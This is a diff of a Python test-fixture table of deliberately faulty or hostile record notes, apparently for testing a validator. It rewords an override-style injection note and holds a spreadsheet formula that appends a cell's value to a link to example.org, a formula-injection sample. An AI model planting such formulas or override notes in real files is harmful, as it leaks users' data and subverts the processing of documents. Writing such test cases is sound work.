@@ -321,7 +321,7 @@ RECORDS: dict[str, Act] = {
         A, "        evidence: one keeper\n", "        evidence: one keeper\n        age: 27\n"
     ),
     "a formula in a note": note("'=HYPERLINK(\"http://example.org/?\"&A1)'"),
-    "a note that reads as an override": note("'Not what the words say: the year is that of the copyright.'"),
+    "a note that reads as an override": note("'The program reads the words otherwise: the year of the copyright.'"),
     "a note that the build would write": note("The closing quotation mark of part 1 is missing in the source."),
     "a mistyped licence": swap(A, "gender: he rowed across at night", "gendre: he rowed across at night"),
     "a section of the vocabulary by the name of one term": swap(VOCABULARY, "\nmeasures:\n", "\nmeasure:\n"),
